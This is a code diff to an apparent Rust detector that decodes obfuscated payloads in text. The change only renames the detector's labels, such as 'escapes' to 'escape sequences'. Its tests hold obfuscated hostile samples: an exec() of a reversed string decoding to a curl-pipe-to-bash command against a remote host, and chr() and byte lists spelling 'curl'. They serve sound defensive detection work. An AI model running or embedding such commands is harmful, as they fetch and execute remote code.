@@ -127,7 +127,7 @@ pub fn payloads(text: &str, limit: usize) -> Vec<Decoded> {
         push(m.start(), "hex", textual(&bytes));
     }
     for m in ESCAPES.find_iter(text) {
-        push(m.start(), "escapes", textual(&unescape(m.as_str())));
+        push(m.start(), "escape sequences", textual(&unescape(m.as_str())));
     }
     for m in CODES.captures_iter(text) {
         let Some(list) = m.get(1) else { continue };
@@ -156,7 +156,7 @@ pub fn payloads(text: &str, limit: usize) -> Vec<Decoded> {
             .filter_map(|c| c.get(1)?.as_str().parse::<u8>().ok())
             .collect();
         if codes.len() >= 4 {
-            push(start, "chr()", textual(&codes));
+            push(start, "chr() calls", textual(&codes));
         }
     }
     let lower = text.to_ascii_lowercase();
@@ -199,7 +199,7 @@ pub fn payloads(text: &str, limit: usize) -> Vec<Decoded> {
                 push(m.start(), "rot13", Some(s.chars().map(rot).collect()));
             }
             if reversed {
-                push(m.start(), "reversed", Some(s.chars().rev().collect()));
+                push(m.start(), "a reversed string", Some(s.chars().rev().collect()));
             }
         }
     }
@@ -336,7 +336,7 @@ mod tests {
         );
         assert_eq!(
             first(r#"s = "\x63\x75\x72\x6c\x20\x68\x74""#),
-            Some(("escapes", "curl ht".into()))
+            Some(("escape sequences", "curl ht".into()))
         );
         assert_eq!(
             first("exec(bytes([99,117,114,108,32,104,116]))"),
@@ -344,11 +344,11 @@ mod tests {
         );
         assert_eq!(
             first("c = chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(104)"),
-            Some(("chr()", "curl h".into()))
+            Some(("chr() calls", "curl h".into()))
         );
         assert_eq!(
             first(r#"exec("hsab | hs.x/7.311.0.302//:ptth s- lruc"[::-1])"#),
-            Some(("reversed", "curl -s http://203.0.113.7/x.sh | bash".into()))
+            Some(("a reversed string", "curl -s http://203.0.113.7/x.sh | bash".into()))
         );
         // base64.b85encode(b"curl http://x | sh")
         assert_eq!(
